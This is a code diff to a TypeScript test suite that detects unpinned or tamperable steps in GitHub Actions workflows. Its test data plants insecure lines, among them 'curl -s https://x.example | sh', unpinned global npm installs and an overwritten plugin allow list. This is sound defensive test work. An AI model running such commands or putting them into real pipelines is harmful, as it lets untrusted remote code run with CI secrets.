@@ -55,7 +55,12 @@ describe('attack: another package than the reviewed one is installed, or runs co
       ...['uses: actions/checkout@v5', 'uses: actions/cache@0123456789012345678901234567890123456789 # v4.0.0'],
       ...['npm install --global @salesforce/cli', 'npm install --global @salesforce/cli@latest'],
       ...['sf plugins install sf-plugin-eca', "echo '[]' > ~/.config/sf/unsignedPluginAllowList.json"],
-      ...['restore-keys: eca-state-', 'sf eca secret resume --state-dir eca-state', 'curl -s https://x.example | sh'],
+      ...[
+        'run-id: 1',
+        'restore-keys: eca-state-',
+        'sf eca secret resume --state-dir eca-state',
+        'curl -s https://x.example | sh',
+      ],
     ];
     expect(planted.filter((line) => looseEnds(`permissions:\n  contents: read\n${line}`).length === 0)).to.deep.equal(
       [],
@@ -73,8 +78,9 @@ function workflowsIn(page: string): string[] {
 /** The lines of a workflow that run what nobody pinned, or read what a lesser job can write. */
 function looseEnds(workflow: string): string[] {
   const loose = workflow.split('\n').filter((line) => {
-    if (/\buses:/.test(line))
-      return !/@[\da-f]{40} # v\d/.test(line) || /actions\/(?:cache|download-artifact)/.test(line);
+    if (/\buses:/.test(line)) return !/@[\da-f]{40} # v\d/.test(line) || line.includes('actions/cache');
+    // artifacts of the same run are those of this workflow; those of others are anybody's
+    if (/^\s*(?:run-id|github-token):/.test(line)) return true;
     if (/\b(?:npm (?:install|i|exec)|npx|plugins install)\b/.test(line)) return !/@\d+\.\d+\.\d+(?:\s|$)/.test(line);
     // the list of plugins is added to, not overwritten
     if (/>\s*\S*(?:AllowList\.json|"\$list")/.test(line)) return !/^\s*test -e .* \|\| /.test(line);
